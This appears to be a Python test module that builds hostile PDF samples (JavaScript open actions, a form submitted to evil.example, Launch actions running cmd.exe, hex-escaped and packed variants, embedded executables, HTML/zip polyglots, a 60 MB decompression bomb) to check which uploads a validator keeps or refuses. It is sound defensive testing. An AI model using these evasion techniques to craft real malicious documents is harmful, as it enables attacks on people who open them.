"""PDF files with more in them than pages."""

import zlib

from tests.core.uploads import PDF, office, packed
from tests.library.hostile import Hostile, kept, refused

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
SCRIPT = b"<script>alert(document.cookie)</script>"


def pdf(*objects: bytes, root: bytes = b"", page: bytes = PAGE) -> bytes:
    """Catalog (1), pages (2), one page (3), and whatever follows (4 …)."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        *objects,
    ]
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(parts) + 1
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%s%s" % (size, table, end)


def stream(content: bytes, about: bytes = b"") -> bytes:
    length = b"<< %s /Length %d >>" % (about, len(content))
    return length + b"\nstream\n" + content + b"\nendstream"


def object_list(content: bytes) -> bytes:
    """Objects packed together, as most programs write them today."""
    packed_list = zlib.compress(b"9 0 " + content)
    return stream(packed_list, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")


LAUNCH = b"<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
INSIDE = b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>"
MANY_LISTS = pdf(*[object_list(b"x" * 100)] * 3_000)
PAPERS: dict[str, Hostile] = {
    "pdf with a script": kept(
        "form.pdf",
        pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", root=b"/OpenAction 4 0 R"),
    ),
    "pdf with a script in its names": kept(
        "form.pdf",
        pdf(root=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    ),
    "pdf that sends a form away": kept(
        "form.pdf", pdf(root=b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>")
    ),
    "pdf that opens a page of the web": kept(
        "form.pdf", pdf(root=b"/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>")
    ),
    "pdf that starts a program": refused("plan.pdf", pdf(LAUNCH, root=b"/OpenAction 4 0 R")),
    "pdf that starts a program, in numbers": refused(
        "plan.pdf", pdf(LAUNCH.replace(b"/Launch", b"/#4C#61unch"), root=b"/OpenAction 4 0 R")
    ),
    "pdf that starts a program, packed": refused(
        "plan.pdf", pdf(object_list(LAUNCH), root=b"/OpenAction 9 0 R")
    ),
    "pdf that starts a program, behind a false stream": refused(
        "plan.pdf", pdf(b"(stream\n)", LAUNCH, root=b"/OpenAction 5 0 R")
    ),
    "pdf with a program inside": refused(
        "plan.pdf",
        pdf(
            INSIDE,
            stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
            root=b"/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>",
        ),
    ),
    "pdf with a program inside, packed": refused(
        "plan.pdf", pdf(object_list(INSIDE + b" << /Type /EmbeddedFile >>"))
    ),
    "pdf with a film of an old player": refused(
        "plan.pdf", pdf(page=b"<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /RichMedia >>] >>")
    ),
    "pdf locked with a password": kept(
        "plan.pdf",
        PDF.replace(b"trailer <<", b"trailer << /Encrypt << /Filter /Standard /V 2 /R 3 >>"),
    ),
    "pdf that is a zip": refused("plan.pdf", pdf() + packed({"evil.html": SCRIPT})),
    "pdf that is an office file": refused("plan.pdf", b"%PDF-1.7\n" + office()),
    "pdf that is a page of the web": kept("plan.pdf", b"%PDF-1.7\n<html>" + SCRIPT),
    "pdf with a page of the web behind it": kept("plan.pdf", pdf() + b"<html>" + SCRIPT),
    "page of the web before a pdf": refused("plan.pdf", b"<html>" + SCRIPT + pdf()),
    "program before a pdf": refused("plan.pdf", b"MZ\x90\x00" + pdf()),
    "pdf cut off": kept("plan.pdf", pdf()[:120]),
    "pdf of nothing but its first line": kept("plan.pdf", b"%PDF-1.7"),
    "pdf whose tree of pages is a ring": kept(
        "plan.pdf", pdf(page=b"<< /Type /Pages /Kids [2 0 R] /Count 9999999 >>")
    ),
    "pdf of thousands of packed lists": kept("plan.pdf", MANY_LISTS),
    "pdf whose packed list unpacks to 60 MB": kept(
        "plan.pdf", pdf(object_list(b"\x00" * 60_000_000))
    ),
    "pdf that is called .txt": refused("plan.txt", pdf()),
    "pdf that is called .docx": refused("plan.docx", pdf()),
}
